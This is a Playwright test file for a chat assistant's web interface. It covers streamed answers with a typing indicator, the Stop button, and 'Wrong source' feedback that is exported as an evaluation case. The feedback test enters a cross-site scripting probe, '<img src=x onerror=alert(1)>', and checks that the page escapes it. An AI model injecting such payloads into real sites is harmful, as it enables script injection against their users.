

# -- visible streaming (issue 21): a typing indicator, then words that arrive as the model writes them -----

# Records each distinct state of the newest answer bubble as painted (at most one a frame, as a person sees
# it, not the steps of one DOM update): its text and whether the typing indicator shows.
WATCH_ANSWER = """(before) => {
  const seen = [];
  window.__seen = seen;
  const look = () => {
    const all = document.querySelectorAll('#chatbot [data-testid="bot"]');
    if (all.length <= before) return;
    const bot = all[all.length - 1];
    const dots = bot.querySelector('.typing-indicator');
    const words = bot.innerText.replace(dots ? dots.innerText : '', '').trim();  // the screen reader's
    const state = { typing: !!dots && dots.getBoundingClientRect().width > 0, text: words };
    const last = seen[seen.length - 1];
    if (!last || last.typing !== state.typing || last.text !== state.text) seen.push(state);
  };
  window.__answerWatch && window.__answerWatch.disconnect();
  // each batch of changes is read when it happens: an animation frame can come a second late on a busy
  // machine, after the typing indicator has already given way to the first words
  window.__answerWatch = new MutationObserver(look);
  window.__answerWatch.observe(document.querySelector('#chatbot'),
    { childList: true, subtree: true, characterData: true });
  // and every 50 ms: the dots can be laid out (given a width) after the change that added them, with no
  // change after it until the first words, so a reader sees them that no mutation reports
  window.__answerPoll && clearInterval(window.__answerPoll);
  window.__answerPoll = setInterval(look, 50);
}"""


@pytest.mark.parametrize("viewport", ["desktop", "phone"])
def test_a_typing_indicator_shows_then_the_answer_grows_word_by_word(
    browser: Any, generative_server: Server, fake_model: FakeModel, viewport: str
) -> None:
    ctx, page, errors = open_page(browser, generative_server.url, **(PHONE if viewport == "phone" else {}))
    try:
        fake_model.delay, fake_model.repeat = 0.15, 3
        fake_model.go.clear()  # the model "thinks" until the page has shown the dots: a busy machine can
        # take seconds to paint them, and words arriving first would skip them
        # the watcher observes the chat: on the phone layout it can be mounted after the question box
        page.locator("#chatbot").wait_for(state="attached")
        page.evaluate(WATCH_ANSWER, 0)
        page.locator("#question textarea").fill(MINE_ACTION)

        def send_then_let_the_model_write() -> None:
            page.locator("#send").click()
            try:
                page.wait_for_function("window.__seen.some(s => s.typing)", timeout=WAIT_MS)
            finally:
                fake_model.go.set()

        run_and_wait(page, send_then_let_the_model_write)
        # read as each change happens, the bubble is empty for an instant between two renders: nothing to see
        seen: list[dict[str, Any]] = [s for s in page.evaluate("window.__seen") if s["typing"] or s["text"]]
        assert seen and seen[0] == {"typing": True, "text": ""}, f"no typing indicator first: {seen[:3]}"
        texts = [s["text"] for s in seen if s["text"] and not s["typing"]]
        final = texts[-1]
        assert "Cambodia" in final and MARKER.search(final), final
        growing = [t for t in dict.fromkeys(texts) if t != final]
        assert len(growing) >= 2, f"the answer appeared in {len(growing) + 1} piece(s): {texts}"
        assert all(final.startswith(t) or "Cambodia" not in t for t in growing[:1]), growing[:1]
        assert not any(s["typing"] for s in seen[seen.index(next(s for s in seen if s["text"])) :]), (
            "the typing indicator stayed after the first words"
        )
        expect(bots(page).first.locator(".typing-indicator")).to_have_count(0)
        # issue 21's glitches: no label floats over the messages...
        expect(page.locator("#chatbot [data-testid='block-label']")).to_be_hidden()
        # Gradio's floating trash icon (it sat on a copy icon); Clear under the chat does the same
        expect(page.locator("#chatbot").get_by_role("button", name="Clear", exact=True)).to_have_count(0)
        shot(page, f"22-streamed-{viewport}")
    finally:
        fake_model.go.set()
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


def test_the_typing_indicator_is_shown_without_a_copy_button_and_stop_replaces_it(
    browser: Any, generative_server: Server, fake_model: FakeModel
) -> None:
    """Stopped before the first word: the bubble says "(stopped)", no dots are left, nothing is copied."""
    ctx, page, errors = open_page(browser, generative_server.url)
    try:
        fake_model.delay, fake_model.repeat = 0.05, 1
        fake_model.go.clear()  # no word before Stop
        page.locator("#question textarea").fill(MINE_ACTION)
        page.locator("#send").click()
        dots = bots(page).first.locator(".typing-indicator")
        expect(dots).to_be_visible()
        expect(dots).to_contain_text("Writing the answer…")  # what a screen reader says
        # the question has its copy button; the dots have none
        expect(page.locator("#chatbot").get_by_role("button", name="Copy message")).to_have_count(1)
        shot(page, "23-typing-indicator")
        page.locator("#stop").click()
        expect(page.locator("#send")).to_be_visible(timeout=15_000)
        expect(bots(page).first).to_contain_text("(stopped)", timeout=15_000)
        expect(dots).to_have_count(0)
        assert "Cambodia" not in settled_text(page, bots(page).first)
    finally:
        fake_model.go.set()
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


# -- feedback that replays (issue 23) ------------------------------------------------------------------


def test_a_wrong_source_thumbs_down_is_kept_and_exported_as_a_case(page: Any, server: Server) -> None:
    """👎 by the flag's "Wrong source", with a comment that is markup: kept with the answer's trace, and the
    export writes it as a case that must not give the same answer again."""
    from assistant.evaluation.cases import cases_of
    from assistant.settings import Settings
    from assistant.storage import Storage

    answer = ask(page, MINE_ACTION)
    assert "Cambodia" in answer, answer
    expect(page.locator("#feedback-comment")).to_be_visible()
    comment = "Cites the <b>wrong</b> speech <img src=x onerror=alert(1)>"
    page.locator("#feedback-comment textarea").fill(comment)
    bot = bots(page).last
    bot.hover()
    expect(page.get_by_role("button", name="Dislike").last).to_be_visible()
    page.get_by_role("button", name="Feedback").last.click()
    page.get_by_role("button", name="Wrong source").last.click()
    # (Gradio sends a flag's choice twice: the second, the same, changes nothing and is not counted again)
    expect(page.get_by_text("your 👎 (wrong source) is kept").first).to_be_visible()
    expect(page.locator("#feedback-comment textarea")).to_have_value("")  # sent with the rating
    expect(page.locator("img[src=x]")).to_have_count(0)
    shot(page, "60-wrong-source-feedback")
    go_to(page, "Feedback")  # the open app's user is its own admin: everyone's feedback, as text
    row = page.locator("#feedback-list tr.feedback-row", has_text="onerror=alert(1)").first
    expect(row).to_contain_text("👎 wrong source")
    expect(page.locator("#feedback-list img")).to_have_count(0)
    shot(page, "61-feedback-tab")

    storage = Storage.from_settings(Settings(data_dir=server.data_dir))
    try:
        cases = [c for c in cases_of(storage.feedback.list_all()) if c["feedback"]["comment"] == comment]
    finally:
        storage.close()
    assert len(cases) == 1, cases
    (case,) = cases
    assert case["question"] == MINE_ACTION and case["type"] == "feedback-wrong-source"
    assert not case["answerable"] and "Cambodia" in case["must_not"][0]
    assert case["feedback"]["retrieved"] and case["feedback"]["store"]["version"]
